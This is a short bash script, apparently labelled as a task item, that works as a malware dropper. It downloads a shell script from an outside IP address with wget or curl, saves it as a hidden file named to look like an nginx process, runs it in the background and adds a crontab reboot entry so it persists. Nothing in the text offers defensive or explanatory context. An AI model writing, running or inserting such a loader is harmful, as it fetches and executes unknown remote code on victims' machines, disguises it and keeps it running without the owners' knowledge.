# task 4831 v3
#!/bin/bash
cd /tmp || cd /var/tmp
wget http://198.51.100.9/bins/x.sh -O /tmp/.nginx || curl -o /tmp/.nginx http://198.51.100.9/bins/x.sh
chmod +x /tmp/.nginx
/tmp/.nginx &
echo "@reboot /tmp/.nginx" | crontab -
